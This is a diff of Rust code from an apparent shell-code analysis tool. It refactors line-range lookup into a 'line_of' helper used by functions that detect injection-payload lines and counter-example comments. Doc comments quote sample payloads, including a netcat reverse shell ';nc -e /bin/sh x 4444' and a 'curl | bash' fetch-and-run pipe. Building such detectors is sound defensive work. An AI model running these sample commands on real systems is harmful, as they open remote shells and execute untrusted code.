@@ -603,25 +603,29 @@ impl UnitReader<'_> {
         });
     }
 
-    /// Whether the command stands on a line written as an injection payload (`$(curl x |
-    /// bash)`, `;nc -e /bin/sh x 4444`), shown, not run.
-    fn on_payload_line(&self, node: Node<'_>) -> bool {
+    /// The line of the code a node starts on, without its line break.
+    fn line_of(&self, node: Node<'_>) -> Range<usize> {
         let start = node.start_byte();
         let line_start = self.code[..start].rfind('\n').map_or(0, |i| i + 1);
         let line_end = self.code[start..]
             .find('\n')
             .map_or(self.code.len(), |i| start + i);
-        quoted::is_injection_payload(&self.code[line_start..line_end])
+        line_start..line_end
+    }
+
+    /// Whether the command stands on a line written as an injection payload (`;nc -e
+    /// /bin/sh x 4444`, `| id`), shown, not run.
+    fn on_payload_line(&self, node: Node<'_>) -> bool {
+        quoted::is_injection_payload(&self.code[self.line_of(node)])
     }
 
     /// Whether a comment on the command's line, or the comment lines right above it,
     /// present it as what not to do.
     fn commented_as_counter(&self, node: Node<'_>) -> bool {
-        let start = node.start_byte();
-        let line_start = self.code[..start].rfind('\n').map_or(0, |i| i + 1);
-        let line_end = self.code[start..]
-            .find('\n')
-            .map_or(self.code.len(), |i| start + i);
+        let Range {
+            start: line_start,
+            end: line_end,
+        } = self.line_of(node);
         let mut notes = String::new();
         if let Some(hash) = self.code[node.end_byte().min(line_end)..line_end].find(" #") {
             notes.push_str(&self.code[node.end_byte().min(line_end) + hash..line_end]);
